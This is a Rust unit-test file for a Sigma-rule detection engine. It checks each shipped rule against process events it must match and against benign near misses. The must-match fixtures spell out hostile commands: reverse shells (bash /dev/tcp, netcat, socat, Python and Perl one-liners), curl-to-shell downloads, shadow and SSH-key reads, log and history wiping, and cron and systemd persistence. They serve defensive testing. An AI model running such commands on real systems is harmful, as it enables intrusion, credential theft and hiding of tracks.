//! The engine's unit tests: loading, the mapping, and every shipped rule against an event
//! it must match and a benign near miss it must not.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;

use daemoneye_proto::pb::control::RuleState;
use daemoneye_proto::pb::events::{ProcessEvent, ProcessEventKind, ProcessInfo};
use proptest::prelude::*;

use super::mapping::{self, MappedEvent, PROCESS_CREATION, Value, shell_join};
use super::{Level, RuleSet, RuleSources, builtin};

/// A process as procmond reports a fresh exec of `argv` from `exe`, run by alice from an
/// interactive bash.
pub(crate) fn process(exe: &str, argv: &[&str]) -> ProcessInfo {
    ProcessInfo {
        pid: 4242,
        ppid: 4100,
        name: Path::new(exe)
            .file_name()
            .map(|n| n.to_string_lossy().chars().take(15).collect())
            .unwrap_or_default(),
        exe: exe.into(),
        cmdline: argv.iter().map(|s| s.to_string()).collect(),
        user: "alice".into(),
        uid: 1000,
        cwd: "/home/alice".into(),
        parent_exe: "/usr/bin/bash".into(),
        parent_cmdline: vec!["-bash".into()],
        ..Default::default()
    }
}

pub(crate) fn creation(p: ProcessInfo) -> ProcessEvent {
    ProcessEvent {
        kind: ProcessEventKind::New as i32,
        process: Some(p),
        source: "netlink".into(),
        ..Default::default()
    }
}

/// An event of the table below: exe, argv, and whether the executable was deleted.
struct Ev(&'static str, &'static [&'static str], bool);

impl Ev {
    fn event(&self) -> ProcessEvent {
        let mut p = process(self.0, self.1);
        p.exe_deleted = self.2;
        creation(p)
    }
}

/// Each shipped rule: events it must match, and benign near misses no shipped rule matches.
struct Case {
    rule: &'static str,
    hits: &'static [Ev],
    misses: &'static [Ev],
}

const SH: &str = "/usr/bin/bash";

const CASES: &[Case] = &[
    Case {
        rule: "credential_shadow_read.yml",
        hits: &[
            Ev("/usr/bin/cat", &["cat", "/etc/shadow"], false),
            Ev("/usr/bin/cp", &["cp", "/etc/gshadow", "/tmp/g"], false),
        ],
        misses: &[Ev("/usr/bin/cat", &["cat", "/etc/passwd"], false)],
    },
    Case {
        rule: "credential_ssh_private_key_read.yml",
        hits: &[
            Ev(
                "/usr/bin/cp",
                &["cp", "/home/alice/.ssh/id_ed25519", "/tmp/k"],
                false,
            ),
            Ev("/usr/bin/cat", &["cat", "/etc/ssh/ssh_host_rsa_key"], false),
        ],
        misses: &[
            Ev(
                "/usr/bin/cat",
                &["cat", "/home/alice/.ssh/id_ed25519.pub"],
                false,
            ),
            Ev(
                "/usr/bin/ssh",
                &["ssh", "-i", "/home/alice/.ssh/id_rsa", "host"],
                false,
            ),
        ],
    },
    Case {
        rule: "cron_crontab_edit.yml",
        hits: &[
            Ev("/usr/bin/crontab", &["crontab", "/tmp/jobs"], false),
            Ev("/usr/bin/crontab", &["crontab", "-e"], false),
        ],
        misses: &[
            Ev("/usr/bin/crontab", &["crontab", "-l"], false),
            Ev("/usr/bin/crontab", &["crontab", "-u", "bob", "-l"], false),
        ],
    },
    Case {
        rule: "cron_file_written.yml",
        hits: &[
            Ev("/usr/bin/cp", &["cp", "job", "/etc/cron.d/job"], false),
            Ev(
                SH,
                &["bash", "-c", "echo '* * * * * root /tmp/x' >> /etc/crontab"],
                false,
            ),
        ],
        misses: &[
            Ev("/usr/bin/cat", &["cat", "/etc/crontab"], false),
            Ev("/usr/bin/ls", &["ls", "-l", "/etc/cron.d/"], false),
        ],
    },
    Case {
        rule: "decode_piped_to_shell.yml",
        hits: &[
            Ev(
                SH,
                &["bash", "-c", "echo ZWNobyBoaQ== | base64 -d | sh"],
                false,
            ),
            Ev(SH, &["sh", "-c", "echo 6869 | xxd -r -p |bash"], false),
        ],
        misses: &[
            Ev(
                SH,
                &["bash", "-c", "echo aGk= | base64 -d | sha256sum"],
                false,
            ),
            Ev("/usr/bin/base64", &["base64", "-d", "cert.b64"], false),
        ],
    },
    Case {
        rule: "deleted_executable_running.yml",
        hits: &[Ev("/usr/local/bin/helper", &["helper", "--daemon"], true)],
        misses: &[Ev("/usr/local/bin/helper", &["helper", "--daemon"], false)],
    },
    Case {
        rule: "download_piped_to_shell.yml",
        hits: &[
            Ev(
                SH,
                &["bash", "-c", "curl -fsSL http://203.0.113.7/i.sh | bash"],
                false,
            ),
            Ev(
                SH,
                &["sh", "-c", "wget -qO- http://203.0.113.7/x | sh -s"],
                false,
            ),
        ],
        misses: &[
            Ev(
                SH,
                &[
                    "bash",
                    "-c",
                    "curl -fsSL https://example.com/a.tgz | sha256sum",
                ],
                false,
            ),
            Ev(
                "/usr/bin/curl",
                &["curl", "-fsSL", "https://example.com/"],
                false,
            ),
        ],
    },
    Case {
        rule: "download_to_temp_directory.yml",
        hits: &[
            Ev(
                "/usr/bin/curl",
                &["curl", "-o", "/tmp/x", "http://203.0.113.7/x"],
                false,
            ),
            Ev(
                "/usr/bin/wget",
                &["wget", "-O", "/dev/shm/.k", "http://203.0.113.7/k"],
                false,
            ),
            Ev(
                "/usr/bin/wget",
                &["wget", "-P", "/var/tmp", "http://203.0.113.7/k"],
                false,
            ),
        ],
        misses: &[Ev(
            "/usr/bin/curl",
            &[
                "curl",
                "-o",
                "/home/alice/x.tgz",
                "https://example.com/x.tgz",
            ],
            false,
        )],
    },
    Case {
        rule: "execution_from_temp_directory.yml",
        hits: &[
            Ev("/tmp/.cache/kworker", &["kworker"], false),
            Ev("/dev/shm/x", &["./x", "-c", "pool"], false),
        ],
        misses: &[Ev("/usr/bin/ls", &["ls", "/tmp/"], false)],
    },
    Case {
        rule: "journal_vacuumed.yml",
        hits: &[Ev(
            "/usr/bin/journalctl",
            &["journalctl", "--vacuum-time=1s"],
            false,
        )],
        misses: &[Ev(
            "/usr/bin/journalctl",
            &["journalctl", "-u", "nginx", "--since", "1h"],
            false,
        )],
    },
    Case {
        rule: "log_files_cleared.yml",
        hits: &[
            Ev("/usr/bin/rm", &["rm", "-f", "/var/log/auth.log"], false),
            Ev("/usr/bin/shred", &["shred", "-u", "/var/log/wtmp"], false),
            Ev(
                SH,
                &["bash", "-c", "cat /dev/null > /var/log/syslog"],
                false,
            ),
        ],
        misses: &[
            Ev("/usr/bin/rm", &["rm", "/var/log/syslog.2.gz"], false),
            Ev("/usr/bin/tail", &["tail", "-f", "/var/log/syslog"], false),
            Ev(
                SH,
                &["sh", "-c", "/opt/app/run >> /var/log/app.log 2>&1"],
                false,
            ),
        ],
    },
    Case {
        rule: "reverse_shell_dev_tcp.yml",
        hits: &[Ev(
            SH,
            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
            false,
        )],
        misses: &[Ev(SH, &["bash", "-c", "echo hello > /dev/null"], false)],
    },
    Case {
        rule: "reverse_shell_netcat.yml",
        hits: &[
            Ev(
                "/usr/bin/nc",
                &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"],
                false,
            ),
            Ev(
                "/usr/bin/ncat",
                &["ncat", "--exec", "/bin/bash", "203.0.113.7", "4444"],
                false,
            ),
        ],
        misses: &[Ev(
            "/usr/bin/nc",
            &["nc", "-zv", "db.internal", "5432"],
            false,
        )],
    },
    Case {
        rule: "reverse_shell_script_oneliner.yml",
        hits: &[
            Ev(
                "/usr/bin/python3",
                &[
                    "python3",
                    "-c",
                    "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));\
                     [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
                ],
                false,
            ),
            Ev(
                "/usr/bin/perl",
                &[
                    "perl",
                    "-e",
                    "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);\
                     open(STDIN,'>&S');exec('/bin/sh -i');",
                ],
                false,
            ),
        ],
        misses: &[Ev(
            "/usr/bin/python3",
            &[
                "python3",
                "-c",
                "import socket; print(socket.gethostname())",
            ],
            false,
        )],
    },
    Case {
        rule: "reverse_shell_socat.yml",
        hits: &[Ev(
            "/usr/bin/socat",
            &[
                "socat",
                "TCP:203.0.113.7:4444",
                "EXEC:/bin/bash,pty,stderr,setsid",
            ],
            false,
        )],
        misses: &[Ev(
            "/usr/bin/socat",
            &["socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80"],
            false,
        )],
    },
    Case {
        rule: "shell_history_cleared.yml",
        hits: &[
            Ev(SH, &["bash", "-c", "history -c"], false),
            Ev(SH, &["bash", "-c", "unset HISTFILE; id"], false),
            Ev(
                "/usr/bin/rm",
                &["rm", "-f", "/home/alice/.bash_history"],
                false,
            ),
        ],
        misses: &[
            Ev("/usr/bin/cat", &["cat", "/home/alice/.bash_history"], false),
            Ev(SH, &["bash", "-c", "history | tail -5"], false),
        ],
    },
    Case {
        rule: "systemd_unit_enabled_from_unusual_path.yml",
        hits: &[
            Ev(
                "/usr/bin/systemctl",
                &["systemctl", "enable", "/tmp/update.service"],
                false,
            ),
            Ev(
                "/usr/bin/systemctl",
                &["systemctl", "link", "/home/alice/.x/agent.service"],
                false,
            ),
        ],
        misses: &[Ev(
            "/usr/bin/systemctl",
            &["systemctl", "enable", "nginx.service"],
            false,
        )],
    },
    Case {
        rule: "systemd_unit_written.yml",
        hits: &[
            Ev(
                "/usr/bin/cp",
                &["cp", "x.service", "/etc/systemd/system/x.service"],
                false,
            ),
            Ev(
                SH,
                &[
                    "sh",
                    "-c",
                    "printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/x.service",
                ],
                false,
            ),
        ],
        misses: &[Ev(
            "/usr/bin/cat",
            &["cat", "/etc/systemd/system/sshd.service"],
            false,
        )],
    },
];

fn builtin_only() -> RuleSet {
    RuleSet::load(&RuleSources {
        builtin: true,
        directories: Vec::new(),
    })
}

#[test]
fn every_shipped_rule_is_active_and_has_test_events() {
    let set = builtin_only();
    let statuses = set.statuses();
    assert_eq!(statuses.len(), builtin::RULES.len());
    for s in &statuses {
        assert_eq!(s.state(), RuleState::Active, "{}: {}", s.file, s.reason);
        assert_eq!(s.logsource, "linux/process_creation", "{}", s.file);
    }
    assert_eq!(set.active(), builtin::RULES.len());
    for (name, _) in builtin::RULES {
        let case = CASES.iter().filter(|c| c.rule == *name).count();
        assert_eq!(
            case, 1,
            "{name}: a shipped rule needs one test case in detect/tests.rs"
        );
    }
}

#[test]
fn shipped_rules_match_their_events_and_not_near_misses() {
    let set = builtin_only();
    for case in CASES {
        let file = format!("builtin:{}", case.rule);
        for ev in case.hits {
            let hits = set.evaluate(&ev.event());
            assert!(
                hits.iter().any(|r| r.file == file),
                "{}: did not match {:?} ({})",
                case.rule,
                ev.1,
                ev.0
            );
        }
        for ev in case.misses {
            let hits = set.evaluate(&ev.event());
            let names: Vec<&str> = hits.iter().map(|r| r.file.as_str()).collect();
            assert!(
                names.is_empty(),
                "{}: benign {:?} matched {names:?}",
                case.rule,
                ev.1
            );
        }
    }
}

#[test]
fn shipped_rules_carry_the_required_metadata() {
    for (name, text) in builtin::RULES {
        let c = rsigma_parser::parse_sigma_yaml(text).unwrap();
        let r = &c.rules[0];
        assert!(
            r.id.as_deref().is_some_and(|id| id.len() == 36),
            "{name}: id"
        );
        assert_eq!(r.author.as_deref(), Some("DaemonEye"), "{name}: author");
        assert!(
            r.description.as_deref().is_some_and(|d| d.len() > 20),
            "{name}"
        );
        assert!(r.level.is_some(), "{name}: level");
        assert!(!r.falsepositives.is_empty(), "{name}: falsepositives");
        assert!(
            r.tags.iter().any(|t| t.starts_with("attack.t")),
            "{name}: an ATT&CK technique tag"
        );
    }
    let ids: std::collections::HashSet<_> = builtin_only()
        .statuses()
        .into_iter()
        .map(|s| s.rule_id)
        .collect();
    assert_eq!(ids.len(), builtin::RULES.len(), "rule ids are unique");
}

#[test]
fn matches_are_counted_per_rule() {
    let set = builtin_only();
    let ev = Ev("/usr/bin/cat", &["cat", "/etc/shadow"], false).event();
    assert_eq!(set.evaluate(&ev).len(), 1);
    assert_eq!(set.evaluate(&ev).len(), 1);
    let statuses = set.statuses();
    for s in statuses {
        let want = if s.file == "builtin:credential_shadow_read.yml" {
            2
        } else {
            0
        };
        assert_eq!(s.matches, want, "{}", s.file);
    }
}

#[test]
fn only_new_and_modified_events_are_process_creations() {
    let set = builtin_only();
    let mut ev = Ev("/usr/bin/cat", &["cat", "/etc/shadow"], false).event();
    for (kind, matches) in [
        (ProcessEventKind::New, 1),
        (ProcessEventKind::Modified, 1),
        (ProcessEventKind::Exit, 0),
        (ProcessEventKind::Snapshot, 0),
        (ProcessEventKind::Unspecified, 0),
    ] {
        ev.kind = kind as i32;
        assert_eq!(set.evaluate(&ev).len(), matches, "{kind:?}");
    }
    ev.kind = ProcessEventKind::New as i32;
    ev.process = None;
    assert!(set.evaluate(&ev).is_empty());
}

#[test]
fn rule_info_names_the_rule() {
    let set = builtin_only();
    let hits = set.evaluate(&Ev("/usr/bin/cat", &["cat", "/etc/shadow"], false).event());
    let r = &hits[0];
    assert_eq!(r.id, "22948b44-bf4e-4856-bf03-c60c5f082f75");
    assert_eq!(r.title, "Password Hash File Read");
    assert_eq!(r.level, Level::High);
    assert!(r.tags.contains(&"attack.t1003.008".to_string()));
    assert_eq!(r.file, "builtin:credential_shadow_read.yml");
}

// ----- the mapping -----

#[test]
fn command_lines_are_joined_as_a_shell_shows_them() {
    let argv = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    assert_eq!(shell_join(&argv(&["ls", "-la", "/tmp"])), "ls -la /tmp");
    assert_eq!(
        shell_join(&argv(&["sh", "-c", "curl x | sh"])),
        "sh -c 'curl x | sh'"
    );
    assert_eq!(shell_join(&argv(&["echo", ""])), "echo ''");
    assert_eq!(shell_join(&argv(&["echo", "it's"])), r#"echo 'it'"'"'s'"#);
    assert_eq!(shell_join(&argv(&["a", "$HOME", "x;y"])), "a '$HOME' 'x;y'");
    assert_eq!(
        shell_join(&argv(&["--port=80", "user@host:/p,q"])),
        "--port=80 user@host:/p,q"
    );
}

#[test]
fn every_field_of_the_table_is_read() {
    let mut p = process("/usr/bin/sha256sum", &["sha256sum", "a file"]);
    p.exe_sha256 = "ab".repeat(32);
    p.parent_cmdline = vec!["bash".into(), "-c".into(), "x y".into()];
    let m = MappedEvent::new(PROCESS_CREATION, &p);
    let s = |f: &str| match m.get(f) {
        Some(Value::Str(s)) => s.to_string(),
        other => panic!("{f}: {other:?}"),
    };
    assert_eq!(s("Image"), "/usr/bin/sha256sum");
    assert_eq!(s("CommandLine"), "sha256sum a file");
    assert_eq!(s("ParentImage"), "/usr/bin/bash");
    assert_eq!(s("ParentCommandLine"), "bash -c x y");
    assert_eq!(s("User"), "alice");
    assert_eq!(s("CurrentDirectory"), "/home/alice");
    assert_eq!(s("Hashes"), format!("SHA256={}", "ab".repeat(32)));
    assert_eq!(s("ProcessName"), "sha256sum");
    assert_eq!(m.get("ProcessId"), Some(&Value::Int(4242)));
    assert_eq!(m.get("ParentProcessId"), Some(&Value::Int(4100)));
    assert_eq!(m.get("UserId"), Some(&Value::Int(1000)));
    assert_eq!(m.get("ImageDeleted"), Some(&Value::Bool(false)));
    assert_eq!(m.fields().len(), PROCESS_CREATION.len());
}

#[test]
fn unread_fields_are_absent_not_empty() {
    let mut p = process("/usr/bin/true", &["true"]);
    p.unread = [
        "exe",
        "exe_dev",
        "exe_inode",
        "cwd",
        "user",
        "uid",
        "ppid",
        "cmdline",
    ]
    .map(String::from)
    .to_vec();
    p.user = String::new();
    let m = MappedEvent::new(PROCESS_CREATION, &p);
    for f in [
        "Image",
        "CurrentDirectory",
        "User",
        "UserId",
        "ParentProcessId",
        "CommandLine",
        "ImageDeleted",
        "Hashes",
    ] {
        assert!(m.get(f).is_none(), "{f} should be absent");
    }
    assert!(m.get("ProcessId").is_some());
    // A kernel thread has no argv and no exe: neither is presented.
    let k = ProcessInfo {
        pid: 2,
        name: "kthreadd".into(),
        ..Default::default()
    };
    let m = MappedEvent::new(PROCESS_CREATION, &k);
    assert!(m.get("CommandLine").is_none() && m.get("Image").is_none());
}

#[test]
fn absent_fields_match_null_and_fail_exists() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("null.yml"),
        "title: No cwd\nid: t-null\nlogsource: {product: linux, category: process_creation}\n\
         detection:\n  s:\n    CurrentDirectory: null\n    Image|exists: true\n  condition: s\n",
    )
    .unwrap();
    let set = RuleSet::load(&RuleSources {
        builtin: false,
        directories: vec![dir.path().into()],
    });
    assert_eq!(set.active(), 1, "{:?}", set.statuses());
    let mut p = process("/usr/bin/true", &["true"]);
    assert!(set.evaluate(&creation(p.clone())).is_empty());
    p.unread = vec!["cwd".into()];
    assert_eq!(set.evaluate(&creation(p)).len(), 1);
}

#[test]
fn image_deleted_matches_as_string_or_boolean() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("b.yml"),
        "title: Deleted\nid: t-bool\nlogsource: {product: linux, category: process_creation}\n\
         detection:\n  s:\n    ImageDeleted: true\n  condition: s\n",
    )
    .unwrap();
    let set = RuleSet::load(&RuleSources {
        builtin: true,
        directories: vec![dir.path().into()],
    });
    let ev = Ev("/usr/bin/x", &["x"], true).event();
    assert_eq!(set.evaluate(&ev).len(), 2);
    let ev = Ev("/usr/bin/x", &["x"], false).event();
    assert!(set.evaluate(&ev).is_empty());
    assert!(mapping::is_process_creation(
        &Ev("/x", &["x"], false).event()
    ));
}

// ----- loading -----

const GOOD: &str = "title: Whoami\nid: t-good\nlogsource: {product: linux, category: process_creation}\n\
                    detection:\n  s:\n    Image|endswith: /whoami\n  condition: s\nlevel: low\n";

fn load_dir(files: &[(&str, &str)]) -> (tempfile::TempDir, RuleSet) {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        let path = dir.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    let set = RuleSet::load(&RuleSources {
        builtin: false,
        directories: vec![dir.path().into()],
    });
    (dir, set)
}

fn state_of<'a>(
    set: &'a [daemoneye_proto::pb::control::RuleStatus],
    file: &str,
) -> &'a daemoneye_proto::pb::control::RuleStatus {
    set.iter()
        .find(|s| s.file.ends_with(file))
        .unwrap_or_else(|| panic!("{file} not in {set:?}"))
}

#[test]
fn a_broken_file_is_refused_with_one_line_and_the_others_load() {
    let (_d, set) = load_dir(&[
        ("a_good.yml", GOOD),
        ("b_broken.yml", "title: [unclosed\n  detection: {\n"),
        (
            "c_modifier.yml",
            &GOOD
                .replace("t-good", "t-mod")
                .replace("|endswith", "|sideways"),
        ),
        (
            "d_condition.yml",
            &GOOD
                .replace("t-good", "t-cond")
                .replace("condition: s", "condition: s and nope"),
        ),
        ("e_empty.yml", ""),
        (
            "f_no_detection.yml",
            "title: x\nlogsource: {product: linux}\n",
        ),
    ]);
    let st = set.statuses();
    assert_eq!(state_of(&st, "a_good.yml").state(), RuleState::Active);
    for f in [
        "b_broken.yml",
        "c_modifier.yml",
        "d_condition.yml",
        "e_empty.yml",
        "f_no_detection.yml",
    ] {
        let s = state_of(&st, f);
        assert_eq!(s.state(), RuleState::Refused, "{f}: {s:?}");
        assert!(
            !s.reason.is_empty() && !s.reason.contains('\n'),
            "{f}: {:?}",
            s.reason
        );
    }
    assert!(
        state_of(&st, "c_modifier.yml").reason.contains("sideways"),
        "{st:?}"
    );
    assert!(
        state_of(&st, "d_condition.yml").reason.contains("nope"),
        "{st:?}"
    );
    assert_eq!(set.active(), 1);
    let hits = set.evaluate(&creation(process("/usr/bin/whoami", &["whoami"])));
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].level, Level::Low);
}

#[test]
fn logsources_nothing_collects_are_inactive_with_the_reason() {
    let auditd = GOOD.replace("t-good", "t-audit").replace(
        "product: linux, category: process_creation",
        "product: linux, service: auditd",
    );
    let windows = GOOD
        .replace("t-good", "t-win")
        .replace("product: linux", "product: windows");
    let any_product = GOOD
        .replace("t-good", "t-any")
        .replace("product: linux, ", "");
    let (_d, set) = load_dir(&[
        ("auditd.yml", &auditd),
        ("windows.yml", &windows),
        ("any.yml", &any_product),
    ]);
    let st = set.statuses();
    let a = state_of(&st, "auditd.yml");
    assert_eq!(a.state(), RuleState::Inactive);
    assert_eq!(a.logsource, "linux/auditd");
    assert!(a.reason.contains("linux/auditd"), "{}", a.reason);
    assert_eq!(state_of(&st, "windows.yml").state(), RuleState::Inactive);
    assert_eq!(state_of(&st, "any.yml").state(), RuleState::Active);
    assert_eq!(set.active(), 1);
}

#[test]
fn directories_are_read_recursively_and_files_may_hold_several_rules() {
    let two = format!("{GOOD}---\n{}", GOOD.replace("t-good", "t-second"));
    let (_d, set) = load_dir(&[
        ("deep/er/two.yaml", &two),
        ("notes.txt", "not a rule"),
        ("one.yml", &GOOD.replace("t-good", "t-one")),
    ]);
    let st = set.statuses();
    assert_eq!(st.len(), 3, "{st:?}");
    assert!(st.iter().all(|s| s.state() == RuleState::Active));
    assert_eq!(set.active(), 3);
    let hits = set.evaluate(&creation(process("/usr/bin/whoami", &["whoami"])));
    assert_eq!(hits.len(), 3);
}

#[test]
fn correlations_and_duplicate_ids_are_refused() {
    let correlation = format!(
        "{GOOD}---\ntitle: Many\ncorrelation:\n  type: event_count\n  rules: [t-good]\n  \
         group-by: [User]\n  timespan: 60s\n  condition: {{gte: 3}}\n"
    );
    let (_d, set) = load_dir(&[
        ("a.yml", GOOD),
        ("b_dup.yml", GOOD),
        ("c_corr.yml", &correlation.replace("t-good", "t-c")),
    ]);
    let st = set.statuses();
    let dup = state_of(&st, "b_dup.yml");
    assert_eq!(dup.state(), RuleState::Refused);
    assert!(
        dup.reason.contains("t-good") && dup.reason.contains("a.yml"),
        "{}",
        dup.reason
    );
    let corr = state_of(&st, "c_corr.yml");
    assert_eq!(corr.state(), RuleState::Refused);
    assert!(corr.reason.contains("correlation"), "{}", corr.reason);
    assert_eq!(set.active(), 1);
}

#[test]
fn a_missing_directory_is_one_refused_entry() {
    let set = RuleSet::load(&RuleSources {
        builtin: true,
        directories: vec!["/nonexistent/daemoneye-rules".into()],
    });
    let st = set.statuses();
    let s = state_of(&st, "/nonexistent/daemoneye-rules");
    assert_eq!(s.state(), RuleState::Refused);
    assert_eq!(set.active(), builtin::RULES.len());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn arbitrary_text_never_panics(text in "(?s).{0,400}") {
        let (_d, set) = load_dir(&[("x.yml", &text)]);
        prop_assert!(!set.statuses().is_empty());
    }

    #[test]
    fn rule_shaped_text_never_panics(
        field in "[A-Za-z|]{1,20}",
        value in "[ -~]{0,30}",
        cond in "[a-z ()|]{0,20}",
    ) {
        let text = format!(
            "title: t\nlogsource: {{product: linux, category: process_creation}}\n\
             detection:\n  s:\n    {field}: '{}'\n  condition: {cond}\n",
            value.replace('\'', "''")
        );
        let (_d, set) = load_dir(&[("x.yml", &text)]);
        prop_assert!(!set.statuses().is_empty());
        set.evaluate(&creation(process("/usr/bin/x", &["x", &value])));
    }
}

#[test]
fn sigma_modifiers_the_engine_supports_and_refuses() {
    let rule = |i: usize, item: &str| {
        (
            format!("m{i}.yml"),
            format!(
                "title: m{i}\nid: m-{i}\nlogsource: {{product: linux, category: process_creation}}\n\
                 detection:\n  s:\n    {item}\n  condition: s\n"
            ),
        )
    };
    let supported = [
        "CommandLine|contains|all: [a, b]",
        "CommandLine|startswith: x",
        "CommandLine|endswith: x",
        "CommandLine|re: '^x.*y$'",
        "CommandLine|re|i: '^x'",
        "CommandLine|cased: X",
        "CommandLine|base64offset|contains: secret",
        "CommandLine|windash|contains: ' -e '",
        "CommandLine|fieldref: Image",
        "CommandLine|exists: true",
        "ProcessId|gt: 100",
        "ProcessId|lte: 100",
        "CommandLine|contains: ['*x*', 'a?b']",
    ];
    let files: Vec<(String, String)> = supported
        .iter()
        .enumerate()
        .map(|(i, item)| rule(i, item))
        .chain([rule(100, "CommandLine|expand: '%x%'")])
        .collect();
    let refs: Vec<(&str, &str)> = files
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    let (_d, set) = load_dir(&refs);
    let st = set.statuses();
    for (i, item) in supported.iter().enumerate() {
        let s = state_of(&st, &format!("/m{i}.yml"));
        assert_eq!(s.state(), RuleState::Active, "{item}: {}", s.reason);
    }
    // `expand` loads, but with no placeholder pipeline configured its `%name%` stays
    // literal text (the README says so).
    assert_eq!(state_of(&st, "/m100.yml").state(), RuleState::Active);
}

#[test]
fn a_directory_link_loop_is_read_once() {
    let (dir, _) = load_dir(&[("sub/one.yml", GOOD)]);
    std::os::unix::fs::symlink(dir.path(), dir.path().join("sub/loop")).unwrap();
    let set = RuleSet::load(&RuleSources {
        builtin: false,
        directories: vec![dir.path().into()],
    });
    assert_eq!(set.active(), 1, "{:?}", set.statuses());
}

#[test]
fn a_rule_set_is_shared_across_threads() {
    fn shared<T: Send + Sync>() {}
    shared::<RuleSet>();
    let set = std::sync::Arc::new(builtin_only());
    let ev = Ev("/usr/bin/cat", &["cat", "/etc/shadow"], false).event();
    std::thread::scope(|s| {
        for _ in 0..2 {
            s.spawn(|| assert_eq!(set.evaluate(&ev).len(), 1));
        }
    });
    let shadow = set
        .statuses()
        .into_iter()
        .find(|s| s.file == "builtin:credential_shadow_read.yml")
        .unwrap();
    assert_eq!(shadow.matches, 2);
}
